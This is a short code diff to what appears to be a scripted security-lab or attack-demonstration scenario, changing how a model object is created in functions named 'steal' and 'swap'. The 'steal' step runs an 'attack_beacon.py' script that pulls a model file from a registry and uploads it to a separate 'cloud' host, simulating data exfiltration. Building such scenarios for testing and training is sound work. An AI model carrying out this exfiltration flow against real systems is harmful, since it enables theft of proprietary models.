@@ -75,7 +75,7 @@ def write(stage):
 
 
 def steal(stage):
-    name = stage.model("1.5.0", seed=2).name
+    name = stage.model("1.5.0").name
     cloud = stage.python("cloud", "web.py", ADDRESS["cloud"], 80)
     stage.listening(cloud, 80)
     with stage.step(
@@ -90,9 +90,7 @@ def steal(stage):
         stage.done(
             stage.python("office", "attack_beacon.py", ADDRESS["registry"], 8080, 1, f"/models/pump-wear/{name}")
         )
-        stage.done(
-            stage.python("office", "attack_beacon.py", ADDRESS["cloud"], 80, 1, "/upload", stage.model("1.5.0", seed=2))
-        )
+        stage.done(stage.python("office", "attack_beacon.py", ADDRESS["cloud"], 80, 1, "/upload", stage.model("1.5.0")))
 
 
 def swap(stage):
